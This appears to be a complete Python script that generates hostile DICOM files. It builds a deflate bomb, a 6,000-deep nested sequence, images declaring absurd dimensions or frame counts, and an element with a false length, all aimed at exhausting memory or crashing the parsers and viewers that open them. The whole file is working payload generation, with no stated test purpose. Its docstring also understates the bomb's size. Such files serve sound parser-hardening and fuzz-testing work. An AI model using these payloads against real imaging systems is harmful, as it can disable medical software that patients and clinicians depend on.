#!/usr/bin/env python3
"""Writes DICOM files that were made to do harm: hostile_dicom.py FOLDER. Needs the standard library only.

deflate_bomb.dcm    some kilobytes that inflate to four gigabytes in one private element
deep_sequence.dcm   a sequence nested 6,000 deep
huge_image.dcm      an image that claims 65535 x 65535 pixels and holds a hundred bytes
huge_compressed.dcm the same, as JPEG 2000
many_frames.dcm     an image that claims 2,147,483,647 frames
endless_text.dcm    an element that claims 4,294,967,294 bytes and holds ten
"""
import os
import struct
import sys
import zlib

EXPLICIT = b"1.2.840.10008.1.2.1"
DEFLATED = b"1.2.840.10008.1.2.1.99"
JPEG2000 = b"1.2.840.10008.1.2.4.90"
CT = b"1.2.840.10008.5.1.4.1.1.2"


def even(value, pad=b" "):
    return value if len(value) % 2 == 0 else value + pad


def element(group, number, vr, value):
    head = struct.pack("<HH", group, number) + vr
    if vr in (b"OB", b"OW", b"SQ", b"UN", b"UT"):
        return head + b"\0\0" + struct.pack("<I", len(value)) + value
    return head + struct.pack("<H", len(value)) + value


def uid(value):
    return even(value, b"\0")


def short(value):
    return struct.pack("<H", value)


def meta(syntax, instance):
    body = element(0x0002, 0x0001, b"OB", b"\0\1")
    body += element(0x0002, 0x0002, b"UI", uid(CT))
    body += element(0x0002, 0x0003, b"UI", uid(instance))
    body += element(0x0002, 0x0010, b"UI", uid(syntax))
    body += element(0x0002, 0x0012, b"UI", uid(b"1.2.3"))
    length = element(0x0002, 0x0000, b"UL", struct.pack("<I", len(body)))
    return b"\0" * 128 + b"DICM" + length + body


def image(instance, rows=16, columns=16, before_geometry=b"", frames=None):
    number = instance.split(b".")[-1]
    data = element(0x0008, 0x0016, b"UI", uid(CT))
    data += element(0x0008, 0x0018, b"UI", uid(instance))
    data += element(0x0008, 0x0060, b"CS", b"CT")
    data += before_geometry
    data += element(0x0010, 0x0020, b"LO", even(b"HOSTILE"))
    data += element(0x0020, 0x000D, b"UI", uid(b"1.2.9.1"))
    data += element(0x0020, 0x000E, b"UI", uid(b"1.2.9.2." + number))
    data += element(0x0020, 0x0032, b"DS", even(b"0\\0\\0"))
    data += element(0x0020, 0x0037, b"DS", even(b"1\\0\\0\\0\\1\\0"))
    data += element(0x0020, 0x0052, b"UI", uid(b"1.2.9.3"))
    data += element(0x0028, 0x0002, b"US", short(1))
    data += element(0x0028, 0x0004, b"CS", even(b"MONOCHROME2"))
    if frames is not None:
        data += element(0x0028, 0x0008, b"IS", even(frames))
    data += element(0x0028, 0x0010, b"US", short(rows))
    data += element(0x0028, 0x0011, b"US", short(columns))
    data += element(0x0028, 0x0030, b"DS", even(b"1\\1"))
    for tag, value in ((0x0100, 16), (0x0101, 16), (0x0102, 15), (0x0103, 1)):
        data += element(0x0028, tag, b"US", short(value))
    data += element(0x0028, 0x1052, b"DS", even(b"0"))
    data += element(0x0028, 0x1053, b"DS", even(b"1"))
    return data


def write(folder, name, content):
    with open(os.path.join(folder, name), "wb") as file:
        file.write(content)


def deflate_bomb(instance):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    size = 0xFFFFFFF0
    head = image(instance)[:0]
    head += element(0x0008, 0x0016, b"UI", uid(CT)) + element(0x0008, 0x0018, b"UI", uid(instance))
    head += struct.pack("<HH", 0x0009, 0x1010) + b"OB\0\0" + struct.pack("<I", size)
    packed = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    # A block of zeros stands alone after a full flush, so it can be repeated as it is.
    block_size = 1 << 20
    block_packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = block_packer.compress(b"\0" * block_size) + block_packer.flush(zlib.Z_FULL_FLUSH)
    packed += block * (size // block_size)
    return meta(DEFLATED, instance) + packed


def deep_sequence(instance, depth=6000):
    opening = struct.pack("<HH", 0x0008, 0x1140) + b"SQ\0\0" + struct.pack("<I", 0xFFFFFFFF)
    opening += struct.pack("<HHI", 0xFFFE, 0xE000, 0xFFFFFFFF)
    closing = struct.pack("<HHI", 0xFFFE, 0xE00D, 0) + struct.pack("<HHI", 0xFFFE, 0xE0DD, 0)
    return meta(EXPLICIT, instance) + image(instance, before_geometry=opening * depth + closing * depth)


def main(folder):
    os.makedirs(folder, exist_ok=True)
    write(folder, "deflate_bomb.dcm", deflate_bomb(b"1.2.9.4.1"))
    write(folder, "deep_sequence.dcm", deep_sequence(b"1.2.9.4.2"))
    pixels = element(0x7FE0, 0x0010, b"OW", b"\1\2" * 50)
    write(folder, "huge_image.dcm", meta(EXPLICIT, b"1.2.9.4.3") + image(b"1.2.9.4.3", 65535, 65535) + pixels)
    items = struct.pack("<HHI", 0xFFFE, 0xE000, 0)
    items += struct.pack("<HHI", 0xFFFE, 0xE000, 16) + b"\xff\x4f\xff\x51" + b"\0" * 10 + b"\xff\xd9"
    items += struct.pack("<HHI", 0xFFFE, 0xE0DD, 0)
    packed = struct.pack("<HH", 0x7FE0, 0x0010) + b"OB\0\0" + struct.pack("<I", 0xFFFFFFFF) + items
    write(folder, "huge_compressed.dcm", meta(JPEG2000, b"1.2.9.4.4") + image(b"1.2.9.4.4", 65535, 65535) + packed)
    frames = image(b"1.2.9.4.5", frames=b"2147483647")
    write(folder, "many_frames.dcm", meta(EXPLICIT, b"1.2.9.4.5") + frames + pixels)
    lying = image(b"1.2.9.4.6")
    lying += struct.pack("<HH", 0x0031, 0x1010) + b"UT\0\0" + struct.pack("<I", 0xFFFFFFFE) + b"0123456789"
    write(folder, "endless_text.dcm", meta(EXPLICIT, b"1.2.9.4.6") + lying)


if __name__ == "__main__":
    main(sys.argv[1])
